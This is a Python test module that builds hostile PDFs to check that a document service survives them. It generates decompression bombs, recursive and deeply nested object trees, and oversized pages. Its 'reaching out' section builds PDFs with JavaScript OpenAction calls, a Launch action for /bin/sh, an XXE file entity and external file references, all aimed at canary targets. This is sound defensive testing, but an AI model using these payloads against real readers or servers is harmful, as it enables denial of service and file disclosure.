"""PDF: circles, counts, paper without end, streams that unpack to everything, and what reaches out of the file."""

import zlib
from collections.abc import Callable, Iterator, Mapping
from typing import Any, Final

from tests.hostile.corpus.pictures import pack_zeros
from tests.hostile.hostile import COMPLETED, Hostile, Outcome, Stage, describe, failed
from tests.hostile.seeds import pdf, stream

_CORRUPT: Final = failed("corrupt_file")
_PAGES: Final = failed("too_many_pages")
_EITHER: Final = COMPLETED | _CORRUPT
_CATALOGUE: Final = b"<< /Type /Catalog /Pages 2 0 R >>"
_ONE_PAGE: Final = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def list_files() -> Iterator[Hostile]:
    yield from _list_trees()
    yield from _list_paper()
    yield from _list_tables()
    yield from _list_streams()
    yield from _list_drawings()
    yield from _list_reaching()


def _pdf(what: str, outcome: Outcome, content: Callable[[Stage], bytes] | bytes, **more: Any) -> Hostile:
    return describe("pdf", what, outcome, content, task_type="document", **more)


def page(contents: bytes = b"", *, media_box: bytes = b"[0 0 200 200]", more: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox %s %s %s >>" % (
        media_box,
        contents and b"/Contents " + contents,
        more,
    )


def one_page(first: bytes, *objects: bytes, head: bytes = _CATALOGUE) -> bytes:
    """Put a PDF of one page together; further objects are numbered from 4 on."""
    return pdf(dict(enumerate((head, _ONE_PAGE, first, *objects), start=1)))


def tile_page(step: bytes, inner: bytes = b"0 0 1 1 re f") -> bytes:
    """Put a PDF together whose page is painted in tiles, `step` points apart; 0.02 takes seconds, less for ever."""
    resources = b"/Resources << /Pattern << /P 5 0 R >> >>"
    tiles = b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep %s /YStep %s " % (step, step)
    paint = stream(b"/Pattern cs /P scn 0 0 200 200 re f")
    return one_page(page(b"4 0 R", more=resources), paint, stream(inner, tiles + resources))


# --- pages ---
def _list_trees() -> Iterator[Hostile]:
    lying = {1: _CATALOGUE, 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>", 3: page()}
    yield _pdf("a million pages, of which one is there", _EITHER | _PAGES, pdf(lying))
    yield _pdf("a million pages that share one", _PAGES | _CORRUPT, _share_pages(1000, 1000))
    yield _pdf("2^31 - 1 pages", _PAGES | _EITHER, pdf({**lying, 2: lying[2].replace(b"1000000", b"2147483647")}))
    yield _pdf("-1 pages", _EITHER, pdf({**lying, 2: lying[2].replace(b"1000000", b"-1")}))
    yield _pdf(
        "a tree of pages that is its own child",
        _EITHER | _PAGES,
        pdf({1: _CATALOGUE, 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 4 >>"}),
    )
    deep: dict[int, bytes] = {1: _CATALOGUE}
    for number in range(2, 20_002):
        deep[number] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (number + 1, number - 1)
    deep[20_002] = page()
    yield _pdf("a page below 20,000 others", _EITHER | failed("too_deeply_nested"), pdf(deep))
    yield _pdf("a page that is no page", _EITHER, one_page(b"(not a page)"))
    yield _pdf("pages that are not there", _EITHER, pdf({1: b"<< /Type /Catalog /Pages 99 0 R >>"}))


def _share_pages(outer: int, inner: int) -> bytes:
    kids = b"[" + b"4 0 R " * inner + b"]"
    nodes = b"[" + b"3 0 R " * outer + b"]"
    return pdf(
        {
            1: _CATALOGUE,
            2: b"<< /Type /Pages /Kids %s /Count %d >>" % (nodes, outer * inner),
            3: b"<< /Type /Pages /Parent 2 0 R /Kids %s /Count %d >>" % (kids, inner),
            4: page(),
        }
    )


def _list_paper() -> Iterator[Hostile]:
    for box in (
        b"[0 0 1e9 1e9]",
        b"[0 0 1e38 1e38]",
        b"[0 0 0 0]",
        b"[0 0 0.0001 100000]",
        b"[0 0 -5 -5]",
        b"[0 0 99999999 1]",
    ):
        yield _pdf(
            f"paper of {box.decode()}",
            _EITHER | failed("too_many_pixels"),
            one_page(page(b"4 0 R", media_box=box), stream(b"0 0 9 9 re f")),
        )
    yield from _list_immense_paper()
    yield _pdf("paper without size", _EITHER, one_page(page(media_box=b"[]")))
    yield _pdf("a unit of 10^9", _EITHER | failed("too_many_pixels"), one_page(page(more=b"/UserUnit 1000000000")))


def _list_immense_paper() -> Iterator[Hostile]:
    """Paper so large that no operation may draw it, or even lay out its words."""
    pixels = failed("too_many_pixels")
    box = b"[-1000000000 -1000000000 1000000000 1000000000]"
    drawn = one_page(page(b"4 0 R", media_box=box), stream(b"BT 20 60 Td (The mill) Tj ET 0 0 9 9 re f"))
    poster = drawn.replace(box, b"[0 0 14400 14400]".ljust(len(box)))
    for operation, options in (
        ("document.read", {}),
        ("document.text", {}),
        ("document.text", {"method": "ocr"}),
        ("document.text", {"format": "markdown"}),
        ("document.describe", {}),
        ("document.render", {}),
        ("document.ocr", {}),
        ("document.ocr", {"mode": "force"}),
    ):
        asked: dict[str, Any] = {"operation": operation, "options": options}
        what = f"{operation} {options or ''}".rstrip()
        yield _pdf(f"paper of 2 * 10^9 points for {what}", pixels, drawn, **asked)
        is_drawn = operation == "document.render" or "mode" in options
        yield _pdf(f"paper of 200 inches for {what}", pixels if is_drawn else COMPLETED, poster, **asked)


# --- the table of objects ---
def _list_tables() -> Iterator[Hostile]:
    good = one_page(page())
    start = good.rindex(b"xref\n0")
    yield _pdf(
        "a table that names itself as the one before",
        _EITHER,
        pdf({1: _CATALOGUE, 2: _ONE_PAGE, 3: page()}, trailer=b"/Prev %d" % start),
    )
    yield _pdf(
        "a table at the end of the world",
        _EITHER,
        good.replace(b"startxref\n%d" % start, b"startxref\n99999999999999999999"),
    )
    yield _pdf("a table of 10^9 objects", _EITHER, good.replace(b"/Size 4", b"/Size 999999999"))
    yield _pdf("offsets that all lie", _EITHER, good.replace(b"0000000", b"9999999"))
    parts = [good]
    for _ in range(5000):
        at = sum(map(len, parts[-1:])) and start
        parts.append(b"xref\n0 0\ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (at, at))
    yield _pdf("5,000 updates", _EITHER, b"".join(parts))
    loop = stream(b"\0" * 40, b"/Type /XRef /W [1 2 1] /Size 10 /Root 1 0 R /Prev 9")
    yield _pdf(
        "a table as a stream that goes before itself",
        _EITHER,
        b"%%PDF-1.7\n1 0 obj\n%s\nendobj\nstartxref\n9\n%%%%EOF" % loop,
    )
    inside = stream(b"5 0 6 10 " + b"<< >> " * 3, b"/Type /ObjStm /N 2 /First 9 /Extends 4 0 R")
    yield _pdf("a stream of objects that goes on in itself", _EITHER, one_page(page(b"5 0 R"), inside))
    yield _pdf(
        "a length that is its own stream",
        _EITHER,
        one_page(page(b"4 0 R"), b"<< /Length 4 0 R >>\nstream\nq Q\nendstream"),
    )
    yield _pdf("100,000 brackets", _EITHER | failed("too_deeply_nested"), one_page(page(more=b"/X " + b"[" * 100_000)))
    yield _pdf(
        "100,000 dictionaries in one another",
        _EITHER | failed("too_deeply_nested"),
        one_page(page(more=b"/X " + b"<< /A " * 100_000)),
    )
    yield _pdf("objects that name each other", _EITHER, one_page(page(b"4 0 R"), b"5 0 R", b"4 0 R"))
    yield _pdf("a header and noise", _CORRUPT, lambda stage: b"%PDF-1.7\n" + stage.seed("jpeg"))


# --- streams ---
def _list_streams() -> Iterator[Hostile]:
    once = pack_zeros(512 * 1024**2)
    twice = zlib.compress(once, 9)
    limits = COMPLETED | failed("memory_limit", "time_limit", "too_compressed", "corrupt_file")
    filters = b"/Filter [/FlateDecode /FlateDecode]"
    yield _pdf(
        "a page that unpacks to 512 MiB",
        limits,
        one_page(page(b"4 0 R"), stream(once, b"/Filter /FlateDecode")),
        within_seconds=30.0,
    )
    yield _pdf(
        "a page packed twice, 512 MiB", limits, one_page(page(b"4 0 R"), stream(twice, filters)), within_seconds=30.0
    )
    many = b"/Filter [" + b"/ASCIIHexDecode " * 10_000 + b"]"
    yield _pdf("10,000 filters", limits, one_page(page(b"4 0 R"), stream(b"30" * 1000, many)))
    text = b"BT /F 9 Tf " + b"(mill) Tj " * 20
    packed = zlib.compress(text * 250 + b"ET")
    yield _pdf(
        "5,000 words of a page, all in one place",
        limits,
        one_page(page(b"4 0 R"), stream(packed, b"/Filter /FlateDecode")),
        within_seconds=30.0,
    )
    yield _pdf("a filter that nobody knows", _EITHER, one_page(page(b"4 0 R"), stream(b"q Q", b"/Filter /Unknown")))
    predictor = (
        b"/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 /BitsPerComponent 32 >>"
    )
    yield _pdf(
        "a predictor of 2^41 bits", _EITHER, one_page(page(b"4 0 R"), stream(zlib.compress(bytes(100)), predictor))
    )


def _list_drawings() -> Iterator[Hostile]:
    limits = _EITHER | failed("memory_limit", "time_limit", "too_many_pixels")

    def drawing(what: str, code: bytes, resources: bytes, *objects: bytes) -> Hostile:
        first = page(b"4 0 R", more=b"/Resources << %s >>" % resources)
        return _pdf(what, limits, one_page(first, stream(code), *objects), within_seconds=30.0)

    form = b"/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /X 5 0 R >> >>"
    yield drawing("a form that draws itself", b"/X Do", b"/XObject << /X 5 0 R >>", stream(b"/X Do /X Do", form))
    levels = [stream(b"/X Do " * 10, form.replace(b"5 0 R", b"%d 0 R" % (number + 1))) for number in range(5, 14)]
    yield drawing(
        "forms that draw ten others each, nine deep",
        b"/X Do",
        b"/XObject << /X 5 0 R >>",
        *levels,
        stream(b"0 0 1 1 re f", form),
    )
    image = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 "
    image += b"/Filter /FlateDecode"
    yield drawing(
        "a picture of 900 megapixels",
        b"200 0 0 200 0 0 cm /X Do",
        b"/XObject << /X 5 0 R >>",
        stream(pack_zeros(1024**2), image % (30_000, 30_000)),
    )
    yield drawing(
        "a picture of 2^62 pixels",
        b"/X Do",
        b"/XObject << /X 5 0 R >>",
        stream(pack_zeros(10), image % (2**31 - 1, 2**31 - 1)),
    )
    for packing in (b"JPXDecode", b"JBIG2Decode", b"CCITTFaxDecode", b"DCTDecode", b"LZWDecode", b"RunLengthDecode"):
        body = image.replace(b"FlateDecode", packing) % (500, 500)
        yield drawing(
            f"noise as {packing.decode()}", b"/X Do", b"/XObject << /X 5 0 R >>", stream(bytes(range(256)) * 20, body)
        )
    yield _pdf("a pattern of four million tiles", limits, tile_page(b"0.1"), within_seconds=30.0)
    yield _pdf("a pattern that paints itself", limits, tile_page(b"10", b"/Pattern cs /P scn 0 0 1 1 re f"))
    font = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> "
    font += b"/Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] "
    font += b"/Resources << /Font << /F 5 0 R >> >> >>"
    yield drawing(
        "a letter that is drawn with itself",
        b"BT /F 9 Tf (aaa) Tj ET",
        b"/Font << /F 5 0 R >>",
        font,
        stream(b"9 0 d0 BT /F 9 Tf (aaa) Tj ET"),
    )
    shading = b"<< /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 1e9 0 1e9] /Function 6 0 R >>"
    function = stream(b"{ " + b"dup mul " * 5000 + b"}", b"/FunctionType 4 /Domain [0 1e9 0 1e9] /Range [0 1 0 1 0 1]")
    yield drawing("a shading of 10,000 steps a point", b"/S sh", b"/Shading << /S 5 0 R >>", shading, function)
    yield drawing("a million saved states", b"q " * 1_000_000, b"")
    yield drawing("a line of 10^8 dashes", b"[0.000001 0.000001] 0 d 0 0 m 200 200 l S", b"")
    yield drawing("a path of a million curves", b"0 0 m " + b"1 2 3 4 5 6 c " * 200_000 + b"S", b"")


# --- reaching out ---
def _list_reaching() -> Iterator[Hostile]:
    def act(build: Callable[[Stage], Mapping[str, bytes]]) -> Callable[[Stage], bytes]:
        def content(stage: Stage) -> bytes:
            told = build(stage)
            head = _CATALOGUE.replace(b">>", told.get("catalogue", b"") + b">>")
            return one_page(page(more=told.get("page", b"")), told.get("object", b"null"), head=head)

        return content

    def fetch_picture(stage: Stage) -> Mapping[str, bytes]:
        reference = b"/F << /FS /URL /F (%s/picture) >>" % stage.canary_url.encode()
        image = stream(
            b"",
            b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 "
            + reference,
        )
        return {"page": b"/Resources << /XObject << /X 4 0 R >> >>", "object": image}

    actions: dict[str, Callable[[Stage], Mapping[str, bytes]]] = {
        "JavaScript that asks a server when opened": lambda stage: {
            "catalogue": b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('%s'\\)) >>" % stage.canary_url.encode()
        },
        "a form that is sent when opened": lambda stage: {
            "catalogue": b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (%s) >> >>" % stage.canary_url.encode()
        },
        "a program that is started when opened": lambda _stage: {
            "catalogue": b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (calc.exe) >> >>"
        },
        "a file of the server as an attachment": lambda stage: {
            "catalogue": b"/Names << /EmbeddedFiles << /Names [(a) << /F (%s) >>] >> >>"
            % str(stage.canary_file).encode()
        },
        "a stream that lies in another file": lambda stage: {
            "page": b"/Contents 4 0 R",
            "object": stream(b"", b"/F (%s)" % str(stage.canary_file).encode()),
        },
        "a picture that lies on a server": fetch_picture,
        "a page of another file": lambda stage: {
            "page": b"/AA << /O << /S /GoToR /F (%s) /D [0 /Fit] >> >>" % str(stage.canary_file).encode()
        },
        "an XML form with an entity of a file": lambda stage: {
            "catalogue": b"/AcroForm << /XFA 4 0 R >>",
            "object": stream(
                b'<!DOCTYPE x [<!ENTITY e SYSTEM "file://%s">]><xdp>&e;</xdp>' % str(stage.canary_file).encode()
            ),
        },
    }
    for what, build in actions.items():
        yield _pdf(what, _EITHER, act(build))
